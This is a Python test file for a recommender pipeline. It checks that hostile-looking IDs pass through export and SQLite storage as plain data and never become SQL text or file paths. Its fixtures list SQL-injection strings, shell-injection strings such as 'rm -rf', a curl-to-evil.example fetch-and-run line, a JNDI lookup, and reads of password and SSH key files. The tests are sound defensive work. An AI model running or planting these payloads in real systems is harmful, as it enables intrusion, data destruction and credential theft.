"""Strings that look like code are data (issue 7): SQL, shell and path-traversal strings used as user and item
IDs round-trip exactly through ingest -> train -> export (Parquet, CSV) -> database, are only ever bound as SQL
parameters, and never become paths. Config values that become paths must stay inside the output root."""

from __future__ import annotations

import csv
import re
import sqlite3
from pathlib import Path
from typing import Any

import numpy as np
import polars as pl
import pytest

from recsys_embed.config import PipelineConfig, load_config
from recsys_embed.errors import ConfigError, OutputError
from recsys_embed.io import inside, read_table
from recsys_embed.pipeline import shipping, stages
from recsys_embed.serving import dbexport

USERS = [
    "'; DROP TABLE recsys_topk; --",
    "Robert'); DROP TABLE victim;--",
    '" OR "1"="1',
    "1; DELETE FROM victim WHERE 1=1",
    "$(rm -rf /)",
    "`reboot`",
    "; rm -rf ~ #",
    "| cat /etc/passwd",
    "&& curl http://evil.example/x.sh | sh",
    "../../etc/passwd",
    "..\\..\\windows\\system32\\config",
    "/etc/shadow",
    "~/.ssh/id_rsa",
    "%2e%2e%2fetc",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "a,b;c|d",
    'quote"inside',
    "percent %s %d %n",
    "backslash \\x00 \\n text",
    "東京'); --",
]
ITEMS = [
    "../../../../tmp/pwned",
    "item'; DROP TABLE recsys_similar_items;--",
    "$(touch /tmp/pwned)",
    "`id`",
    "C:\\Windows\\System32",
    "topk",
    "_SUCCESS",
    ".hidden",
    "part-00000.parquet",
    "/",
    "..",
    "*",
    "?",
    "' OR ''='",
    "x\" ; SELECT 1 --",
    "caf\u00e9 \u2603",
]


def _log(path: Path) -> Path:
    rng = np.random.default_rng(3)
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["user_id", "item_id", "timestamp", "event_type"])
        for k, u in enumerate(USERS):
            for j in rng.choice(len(ITEMS), size=6, replace=False):
                w.writerow([u, ITEMS[j], 1_700_000_000 + k * 1000 + int(j), "view"])
    return path


class _RecordingCursor(sqlite3.Cursor):
    def executemany(self, sql: str, params: Any) -> sqlite3.Cursor:  # type: ignore[override]
        rows = list(params)
        self.connection.statements.append((sql, rows))  # type: ignore[attr-defined]
        return super().executemany(sql, rows)


class _RecordingConnection(sqlite3.Connection):
    """A real SQLite connection that records the SQL text the caller wrote (before any parameter binding)."""

    statements: list[tuple[str, list[Any]]]

    def execute(self, sql: str, *args: Any) -> sqlite3.Cursor:  # type: ignore[override]
        self.statements.append((sql, list(args[0]) if args else []))
        return super().execute(sql, *args)

    def cursor(self, factory: Any = None) -> sqlite3.Cursor:  # type: ignore[override]
        return super().cursor(factory or _RecordingCursor)


def test_code_like_ids_round_trip_through_ingest_export_and_the_database(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cfg = PipelineConfig.model_validate(
        {
            "ingest": {"source": {"path": str(_log(tmp_path / "events.csv"))}, "event_weights": {"view": 1.0}},
            "split": {"method": "random", "val_quantile": None},
            "models": {"als": {"factors": 4, "iterations": 2, "eval_every": 0}, "bpr": {"enabled": False}},
            "export": {"k": 4, "similar_k": 3, "write_csv": True},
        }
    )
    run_dir = tmp_path / "out" / "runs" / "r1"
    ingest = stages.run_ingest(cfg.ingest, tmp_path / "out" / "cache")
    assert ingest["report"]["quarantined_total"] == 0  # code-looking strings are valid IDs, not bad rows
    split = stages.run_split(ingest, cfg.ingest, cfg.split, run_dir / "split")
    model = stages.run_train("als", split, cfg.models, cfg.eval, run_dir / "models")
    export = shipping.run_export(model, split, cfg.export, run_dir / "exports", "run'); DROP TABLE x;--")

    # Parquet: every user and item is one of ours, byte for byte
    topk, similar = read_table(export["topk"]), read_table(export["similar_items"])
    assert set(topk["user_id"]) == set(USERS)
    assert set(topk["item_id"]) <= set(ITEMS) and set(similar["similar_item_id"]) <= set(ITEMS)
    assert set(similar["item_id"]) == set(ITEMS)
    # CSV beside it: the same strings in the same order (quoted where they hold , " or newlines)
    for name, table in (("topk", topk), ("similar_items", similar)):
        back = pl.read_csv(Path(export[name]).with_name(f"{name}.csv"), infer_schema=False)
        assert back.select(table.columns[:3]).rows() == table.select(pl.col(table.columns[:3]).cast(pl.String)).rows()

    # no ID became a path: the run folder holds only the names the pipeline chose
    known = re.compile(r"^(split|models|exports)(/[A-Za-z0-9_.-]+)*$")
    for p in run_dir.rglob("*"):
        rel = p.relative_to(run_dir).as_posix()
        assert known.match(rel) and "pwned" not in rel and "passwd" not in rel, rel
    topk_files = sorted(p.name for p in (run_dir / "exports" / "als" / "topk").iterdir())
    assert topk_files == ["_SUCCESS", "part-00000.parquet"]

    # database: a canary table survives, every value is bound as a parameter, the tables read back exactly
    db = tmp_path / "recs.db"
    with sqlite3.connect(db) as conn:
        conn.execute("CREATE TABLE victim (x TEXT)")
        conn.execute("INSERT INTO victim VALUES ('still here')")
    statements: list[tuple[str, list[Any]]] = []
    real_connect = sqlite3.connect

    def recording_connect(*args: Any, **kwargs: Any) -> sqlite3.Connection:
        conn = real_connect(*args, factory=_RecordingConnection, **kwargs)
        conn.statements = statements  # type: ignore[attr-defined]
        return conn

    monkeypatch.setattr(dbexport.sqlite3, "connect", recording_connect)
    uri = f"sqlite:///{db}"
    dbexport.export_table(export["topk"], uri, "recsys_topk", "1", batch_rows=7)
    dbexport.export_table(export["similar_items"], uri, "recsys_similar_items", "1", batch_rows=7)
    monkeypatch.undo()

    # the distinctive values (short ones such as "topk" or "*" occur in any SQL text)
    hostile = [h for h in (*USERS, *ITEMS, "run'); DROP TABLE x;--") if len(h) >= 8]
    inserts = [(sql, rows) for sql, rows in statements if sql.lstrip().upper().startswith("INSERT")]
    widths = {len(topk.columns) + 1, len(similar.columns) + 1}  # each table's columns + model_version
    assert inserts and all(sql.count("?") in widths for sql, _ in inserts)  # placeholders only
    for sql, _ in statements:
        assert not any(h in sql for h in hostile), f"a value was spliced into SQL text: {sql!r}"
    bound = {v for _, rows in inserts for row in rows for v in row}
    assert set(USERS) <= bound and set(ITEMS) <= bound  # ... and the hostile values travelled as parameters

    with sqlite3.connect(db) as conn:
        tables = sorted(r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table'"))
        assert conn.execute("SELECT x FROM victim").fetchall() == [("still here",)]
    assert tables == ["recsys_similar_items", "recsys_topk", "victim"]
    back = dbexport.read_db_table(uri, "recsys_topk").sort("user_id", "rank")
    want = topk.sort("user_id", "rank")
    assert back["user_id"].to_list() == want["user_id"].to_list()
    assert back["item_id"].to_list() == want["item_id"].to_list()
    assert set(back["run_id"]) == {"run'); DROP TABLE x;--"}


# ---------------------------------------------------------------------------------------------------------
# config values that become paths


@pytest.mark.parametrize("name", ["../../x", "/abs/x", "a/b", "..", ".", "", "x\\..\\y", "tab\there", "n" * 256])
def test_pipeline_name_must_be_a_plain_folder_name(name: str) -> None:
    with pytest.raises(ConfigError) as e:
        load_config(None, [f"name={name}"] if name else ["name="])
    assert "name:" in str(e.value) and "plain folder name" in str(e.value)


@pytest.mark.parametrize("name", ["retail", "retail-2024_v1.0", "my run", "東京"])
def test_plain_names_are_accepted(name: str) -> None:
    assert load_config(None, [f"name={name}"]).name == name


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("ingest.quarantine_file", "../../q.parquet"),
        ("ingest.quarantine_file", "/etc/q.parquet"),
        ("incremental.state_file", "/etc/state.json"),
        ("incremental.state_file", "a/../../state.json"),
        ("incremental.state_file", "~/state.json"),
    ],
)
def test_relative_file_settings_must_stay_inside(key: str, value: str) -> None:
    with pytest.raises(ConfigError) as e:
        load_config(None, [f"{key}={value}"])
    assert key in str(e.value) and "inside the output folder" in str(e.value)


def test_inside_guards_library_path_joins(tmp_path: Path) -> None:
    assert inside(tmp_path, "exports", "als") == tmp_path / "exports" / "als"
    assert inside("out", "a/b") == Path("out/a/b")
    for parts in (("..",), ("../x",), ("/etc",), ("a", "../../x"), ("",), ("a\x00b",)):
        with pytest.raises(OutputError) as e:
            inside(tmp_path, *parts)
        assert str(tmp_path) in str(e.value) and "\n" not in str(e.value)


def test_export_refuses_a_table_name_that_leaves_its_folder(tmp_path: Path) -> None:
    from recsys_embed.config import ExportConfig
    from recsys_embed.serving.export import export_topk
    from recsys_embed.types import Embeddings, IdMap

    rng = np.random.default_rng(0)
    ids = pl.Series("id", ["a", "b", "c"])
    emb = Embeddings(rng.standard_normal((3, 2)), rng.standard_normal((3, 2)), IdMap(ids), IdMap(ids), model="als")
    out = tmp_path / "exports"
    with pytest.raises(OutputError, match="leaves the output folder"):
        export_topk(emb, None, ExportConfig(k=1), out, "run", name="../../escape")
    assert not (tmp_path.parent / "escape").exists() and not out.exists()
